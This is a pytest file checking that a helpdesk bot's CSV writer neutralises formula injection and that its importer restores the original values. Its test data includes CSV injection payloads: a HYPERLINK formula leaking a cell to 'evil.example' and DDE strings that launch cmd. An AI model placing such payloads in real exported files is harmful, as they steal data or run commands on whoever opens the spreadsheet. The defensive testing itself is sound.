"""CSV cells against formula injection: OWASP's quote, numbers kept, read back by the importer."""

from __future__ import annotations

import csv
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from sqlalchemy import select

from bot import csv_safe
from bot.db import engine_for, make_engine, upgrade
from bot.report.figures.summary import build
from bot.report.period import Month
from bot.report.writer import write
from bot.settings import ROOT
from bot.tickets.imports.csv_layout import OPTIONAL, REQUIRED
from bot.tickets.imports.importer import import_file
from bot.tickets.records import NewTicket
from bot.tickets.store import SqlTicketStore
from bot.tickets.tables import TicketRow
from bot.tickets.taxonomy import Channel, Topic

KB = ROOT / "knowledge_base"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+62 812-0000-0001",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@twice",
]
PLAIN = ["Budi", "BPKAD Kab. Brebes", "", "'quoted but harmless", "a=b", "-", "x-1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_starting_with_a_trigger_gets_a_quote(text: str) -> None:
    assert csv_safe.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-12", "+3.5", "-0,25", "42", "-1000000"])
def test_number_literals_stay_numbers(text: str) -> None:
    assert csv_safe.neutralise(text) == text


def test_typed_values_keep_their_form() -> None:
    assert csv_safe.cell(Decimal("-12.50")) == "-12.50"
    assert csv_safe.cell(-3) == "-3" and csv_safe.cell(-0.5) == "-0.5"
    assert csv_safe.cell(date(2023, 2, 1)) == "2023-02-01"
    assert csv_safe.cell(None) == "" and csv_safe.cell("=1") == "'=1"


@pytest.mark.parametrize("text", ATTACKS + PLAIN + ["-12", "'-12", "''-12", "-1e-05"])
def test_restore_gives_back_the_original(text: str) -> None:
    written = csv_safe.neutralise(text)
    assert written[:1] not in csv_safe.TRIGGERS or csv_safe.NUMBER.fullmatch(written)
    assert csv_safe.restore(written) == text


def test_the_importer_reads_back_what_the_writer_wrote(tmp_path) -> None:
    url = f"sqlite:///{tmp_path / 'import.db'}"
    header = [*REQUIRED, "summary", "user_name", "instansi", "assigned_agent"]
    assert set(header) <= set(REQUIRED) | set(OPTIONAL)
    texts = [t.strip() for t in ATTACKS]  # the importer strips values, as before
    rows = [
        [f"TEL-{n}", "telepon", "2023-02-06 09:15", "DAU", text, text, text, "-Anas"]
        for n, text in enumerate(texts)
    ]
    path = tmp_path / "impor.csv"
    csv_safe.write_rows(path, header, rows)
    raw = list(csv.reader(path.open(encoding="utf-8")))
    assert all(cell[:1] not in csv_safe.TRIGGERS for row in raw for cell in row)
    assert import_file(path, url, KB).created == len(texts)
    with engine_for(url).connect() as connection:
        stored = connection.execute(
            select(
                TicketRow.summary, TicketRow.user_name, TicketRow.instansi, TicketRow.assigned_agent
            ).order_by(TicketRow.id)
        ).all()
    assert [tuple(row) for row in stored] == [(t, t, t, "-Anas") for t in texts]


def test_the_report_tables_neutralise_an_agent_name(tmp_path) -> None:
    engine = make_engine(f"sqlite:///{tmp_path / 'csat.db'}")
    upgrade(engine)
    store = SqlTicketStore(engine)
    agent = '=HYPERLINK("http://evil.example","klik")'
    start = datetime(2023, 2, 6, 3, 0, tzinfo=timezone.utc)
    for n in range(5):
        at = start + timedelta(hours=n)
        ticket, _ = store.create_for_conversation(
            NewTicket(f"62811{n}", Channel.WHATSAPP, Topic.DAU, "Penyaluran DAU"), at
        )
        store.claim(ticket.id, agent, at)
        store.resolve(ticket.id, agent, at + timedelta(minutes=5))
        store.set_csat(ticket.id, at + timedelta(minutes=6), service=5, answer=4)
    written = write(build(engine, Month(2023, 2), KB), tmp_path / "report")
    cells = [
        cell
        for path in written.files
        if path.suffix == ".csv"
        for row in csv.reader(path.open(encoding="utf-8"))
        for cell in row
    ]
    assert "'" + agent in cells and agent not in cells
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
    assert not [c for c in cells if c[:1] in ("+", "-") and not csv_safe.NUMBER.fullmatch(c)]
